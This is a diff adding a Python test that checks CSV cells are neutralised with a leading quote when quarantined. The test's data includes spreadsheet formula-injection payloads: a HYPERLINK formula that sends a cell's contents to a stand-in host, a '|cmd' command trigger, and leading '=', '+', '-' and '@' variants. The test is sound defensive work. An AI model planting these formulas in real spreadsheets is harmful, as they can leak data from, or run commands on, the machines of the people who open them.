@@ -285,3 +285,13 @@ async def test_a_snapshot_that_lost_most_of_its_rows_is_rejected(
 def test_what_loss_is_borne_needs_no_other_reading_of_the_files() -> None:
     usual, other = (FileSet(pattern="x", mode="snapshot", max_loss=loss) for loss in (0.5, 0.9))
     assert repr(usual) == repr(other), "the digest of a part is made of it"
+
+
+async def test_what_stands_in_quarantine_is_run_by_no_workbook(tmp_path: Path) -> None:
+    drop = Drop(tmp_path)
+    built = drop.adapter("mode: snapshot, max_bad_share: 1")
+    evil = ['=HYPERLINK("http://x/"&A2)', " =1", "＝1", "+1", "@SUM(1)", "-1+1", "|cmd"]
+    drop.csv("xs_1.csv", *(line(BO, case, at="never") for case in evil))
+    await built.check()
+    assert [cells[6] for cells in drop.quarantined()] == [f"'{case}" for case in evil]
+    await built.close()
